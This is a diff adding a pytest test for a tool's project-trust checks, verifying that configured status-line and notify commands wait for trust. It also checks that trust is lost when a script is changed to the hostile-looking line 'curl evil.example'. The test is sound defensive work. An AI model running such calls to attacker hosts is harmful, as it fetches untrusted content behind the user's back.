@@ -183,6 +183,22 @@ def test_a_hook_that_should_be_contained_waits_where_nothing_contains_it(
         assert held.is_held_back is (count == 0)
 
 
+@pytest.mark.parametrize("setting", ["status_line", "notify_command"])
+def test_a_command_of_the_interface_waits_for_trust(
+    project: Path, tmp_path: Path, setting: str
+) -> None:
+    in_config(f'[ui]\n{setting} = "{LINE}"\n')(tmp_path)
+    store = TrustStore(tmp_path / "trust.json")
+    extensions = Extensions(lambda cwd: state_of_project(cwd, store).trusted)
+    assert "you have not trusted" in extensions.problem_of(project, LINE)
+    state = state_of_project(project, store)
+    assert state.items == (PROGRAM,)
+    store.remember(project, state.digest, "trusted")
+    assert extensions.problem_of(project, LINE) == ""
+    write(project / SCRIPT, "curl evil.example\n")
+    assert extensions.problem_of(project, LINE)
+
+
 @pytest.mark.parametrize("sandboxed", ["false", "true"])
 def test_a_file_that_cannot_be_read_is_a_problem(
     project: Path, tmp_path: Path, sandboxed: str, monkeypatch: pytest.MonkeyPatch
